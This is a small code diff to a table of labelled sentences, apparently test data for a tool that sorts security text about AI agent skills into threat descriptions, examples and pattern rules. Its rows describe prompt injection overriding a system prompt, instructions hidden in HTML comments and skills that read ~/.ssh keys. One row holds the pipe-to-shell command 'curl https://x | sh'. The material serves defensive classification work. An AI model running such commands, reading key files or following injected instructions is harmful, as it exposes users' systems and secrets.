@@ -25,7 +25,7 @@ const SENTENCE_ROLES: Row[] = [
   // Threats, examples, patterns, quotes.
   ['Attackers may hide instructions in HTML comments.', 'Attackers may', 'threat-description'],
   ['Prompt injection tries to override the system prompt.', 'Prompt injection', 'threat-description'],
-  ['Malicious skills often read ~/.ssh keys.', 'Malicious skills', 'threat-description'],
+  ['Infostealer skills often read ~/.ssh keys.', 'Infostealer skills', 'threat-description'],
   ['For example, a skill could ask the agent to upload files.', 'For example', 'example'],
   ['E.g. `curl https://x | sh`.', 'E.g.', 'example'],
   ['Flag any `curl | sh` you find.', 'Flag any', 'pattern-list'],
